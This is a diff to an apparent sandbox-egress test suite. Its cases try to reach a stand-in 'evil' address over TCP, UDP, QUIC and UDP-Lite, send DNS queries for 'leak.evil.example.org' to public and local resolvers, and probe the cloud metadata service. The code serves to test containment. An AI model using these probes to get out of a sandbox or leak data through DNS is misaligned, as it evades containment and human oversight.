@@ -10,6 +10,33 @@ from attack import *
 
 EVIL, EVIL6 = "198.51.100.66", "2001:db8:1::66"
 
+
+def wire(proto, address, port):
+    return f"{proto} [{address}]:{port}" if ":" in address else f"{proto} {address}:{port}"
+
+
+def sent(name, host, port, payload):
+    """A datagram that nobody needs to answer. That a system takes it says
+    nothing: gVisor's takes those that have nowhere to go."""
+
+    @case(name, control=False, leaves=wire("udp", host, port))
+    def attack():
+        family = socket.AF_INET6 if ":" in host else socket.AF_INET
+        with socket.socket(family, socket.SOCK_DGRAM) as s:
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+            s.sendto(payload, (host, port))
+
+
+def query(name):
+    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
+    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
+
+
+def answers(reply):
+    """How many records answer a query."""
+    return struct.unpack(">H", reply[6:8])[0]
+
+
 for port in (22, 80, 443, 8080):
     if port != 443:
         case(f"TCP to a public address, port {port}")(lambda port=port: tcp(EVIL, port))
@@ -36,24 +63,23 @@ for server in ("8.8.8.8", "1.1.1.1", "9.9.9.9", "2001:4860:4860::8888"):
     case(f"TCP to the name server {server}")(lambda server=server: tcp(server, 53))
     case(f"DNS over TLS at {server}")(lambda server=server: tls(server, 853))
     case(f"DNS over HTTPS at {server}")(lambda server=server: tls(server, 443))
-case("a UDP query to another name server")(lambda: sent("8.8.8.8", 53, query("leak.evil.example.org")))
-case("a UDP query to another name server, IPv6")(lambda: sent("2001:4860:4860::8888", 53, query("leak.evil.example.org")))
-case("a UDP query to the host's resolver")(lambda: b"CANARY" if udp("127.0.0.1", 53, query("leak.evil.example.org")) else b"")
+sent("a UDP query to another name server", "8.8.8.8", 53, query("leak.evil.example.org"))
+sent("a UDP query to another name server, IPv6", "2001:4860:4860::8888", 53, query("leak.evil.example.org"))
+case("a UDP query to the host's resolver", leaves="dns leak.evil.example.org.")(lambda: b"CANARY" if answers(udp("127.0.0.1", 53, query("leak.evil.example.org"))) else b"")
 case("the C library's resolver")(lambda: b"CANARY" if socket.getaddrinfo("leak.evil.example.org", 80) else b"")
-case("multicast DNS")(lambda: sent("224.0.0.251", 5353, query("printer.local")))
+sent("multicast DNS", "224.0.0.251", 5353, query("printer.local"))
 
-case("UDP")(lambda: udp(EVIL, 123))
-case("UDP, IPv6")(lambda: udp(EVIL6, 123))
-case("a QUIC Initial")(lambda: udp(EVIL, 443, b"\xc0\x00\x00\x00\x01\x08" + bytes(1194)))
-case("UDP to the metadata service")(lambda: udp("169.254.169.254", 123))
-case("UDP broadcast")(lambda: sent("255.255.255.255", 9999, b"hello"))
+for what, address in (("UDP", EVIL), ("UDP, IPv6", EVIL6), ("UDP to the metadata service", "169.254.169.254")):
+    case(what, leaves=wire("udp", address, 123))(lambda address=address: udp(address, 123, timeout=SHORT))
+case("a QUIC Initial", leaves=wire("udp", EVIL, 443))(lambda: udp(EVIL, 443, b"\xc0\x00\x00\x00\x01\x08" + bytes(1194), SHORT))
+sent("UDP broadcast", "255.255.255.255", 9999, b"hello")
 case("UDP to a port of the host")(lambda: udp("127.0.0.1", 123))
 
 
-@case("UDP-Lite")
+@case("UDP-Lite", control=False, leaves=f"136 {EVIL}:0")
 def udplite():
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
-        return b"CANARY" if s.sendto(b"hello", (EVIL, 9999)) else b""
+        s.sendto(b"hello", (EVIL, 9999))
 
 
 @case("SCTP", control=False)
@@ -133,19 +159,6 @@ def zone():
 def api(which="API"):
     host, _, port = option(which).rpartition(":")
     return host, int(port)
-
-
-def sent(host, port, payload):
-    """A datagram that nobody needs to answer: it left when the system took it."""
-    family = socket.AF_INET6 if ":" in host else socket.AF_INET
-    with socket.socket(family, socket.SOCK_DGRAM) as s:
-        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
-        return b"CANARY" if s.sendto(payload, (host, port)) else b""
-
-
-def query(name):
-    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
-    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
 
 
 def tls(host, port):
